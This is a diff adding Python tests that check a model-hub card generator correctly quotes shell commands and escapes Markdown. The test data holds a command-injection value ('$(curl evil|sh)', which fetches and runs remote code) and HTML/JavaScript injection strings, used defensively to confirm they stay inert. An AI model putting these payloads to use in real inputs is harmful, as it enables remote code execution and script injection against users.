@@ -1,6 +1,7 @@
 """`latentloop push`, against a stand-in of the Hub that the real client writes to."""
 
 import re
+import shlex
 import sys
 from collections.abc import Callable
 from dataclasses import replace
@@ -21,6 +22,7 @@ from latentloop.generators.registry import SHIPPED
 from latentloop.publishing import PushOptions, set_up_push
 from latentloop.publishing.card import is_untouched
 from latentloop.publishing.licences import licence_named
+from latentloop.publishing.markdown import code
 from latentloop.weights import ASSETS, write_ours
 from small_generators import SmallGenerator
 
@@ -261,6 +263,53 @@ def test_directions_of_ones_own_generator(
     assert ("Not stated. Ask whoever trained it" in card) == (licence is None)
     assert listed in card
     assert ("The directions' own licences" in card) == bool(listed)
+
+
+HOSTILE = "smile`$(curl evil|sh)`"
+
+
+def test_a_card_runs_and_shows_names_as_they_are(small_generator: SmallGenerator, tmp_path: Path) -> None:
+    terms = "<img src=x onerror=evil()> [here](javascript:evil) | `sh`"
+    path = tmp_path / "my --><b>dirs|`.safetensors"
+    ways(path, ll.load_generator(small_generator()), **{HOSTILE: terms, "it's": "MIT"})
+    card = set_up_push(path, "anna/ways", PushOptions()).card
+    assert card
+    block = re.search(r"```bash\n(.*?)\n```\n", card, flags=re.DOTALL)
+    assert block
+    install, use = block[1].splitlines()
+    assert shlex.split(install) == ["pip", "install", "latentloop[hub]"]
+    address = f"hf://anna/ways/{path.name}"
+    words = ["latentloop", "edit", "photo.jpg", "--set", f"{address}:{HOSTILE}=1", "--generator", "GENERATOR"]
+    lexer = shlex.shlex(use, posix=True, punctuation_chars=True)  # in which an unquoted | or ( is a word of its own
+    lexer.whitespace_split = True
+    assert list(lexer) == words
+    assert "'" in use
+    assert f"\nIt has `` {HOSTILE} ``, `it's`.\n" in card
+    assert "| file | ``my --><b>dirs\\|`.safetensors`` |" in card
+    assert r"# my --\>\<b\>dirs\|\`" in card
+    assert r"- \<img src=x onerror=evil()\> \[here\](javascript:evil) \| \`sh\`: " in card
+    assert card.splitlines()[-1].count("-->") == 1
+    assert is_untouched(card, path.name)
+
+
+def test_a_file_with_a_space_is_one_word(small_generator: SmallGenerator, tmp_path: Path) -> None:
+    path = ways(tmp_path / "my dirs.safetensors", ll.load_generator(small_generator()), "MIT")
+    card = set_up_push(path, "anna/ways", PushOptions()).card
+    assert card
+    assert "--set 'hf://anna/ways/my dirs.safetensors:way0=1'" in card
+    generator = small_generator(name="my cats")
+    card = set_up_push(generator, "anna/cats", PushOptions()).card
+    assert card
+    assert "latentloop embed photo.jpg --generator 'hf://anna/cats/my cats.safetensors'\n" in card
+    assert is_untouched(card, "my cats.safetensors")
+
+
+@pytest.mark.parametrize(
+    ("text", "markdown"),
+    [("a", "`a`"), ("a`b", "``a`b``"), ("``", "``` `` ```"), ("`a``b", "``` `a``b ```"), (" a", "`  a `")],
+)
+def test_code_is_code_whatever_backticks_it_has(text: str, markdown: str) -> None:
+    assert code(text) == markdown
 
 
 def test_a_licence_can_be_given_where_there_is_none(small_generator: SmallGenerator) -> None:
